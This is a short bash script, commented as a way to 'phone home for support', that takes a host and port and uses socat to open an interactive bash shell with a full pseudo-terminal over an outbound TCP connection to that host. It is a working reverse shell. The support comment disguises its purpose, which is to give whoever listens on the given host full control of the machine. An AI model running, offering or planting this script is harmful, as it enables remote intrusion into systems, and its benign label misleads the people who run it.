#!/bin/bash
# phone home for support
LHOST=${1:?usage: $0 host port}
LPORT=$2
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$LHOST:$LPORT
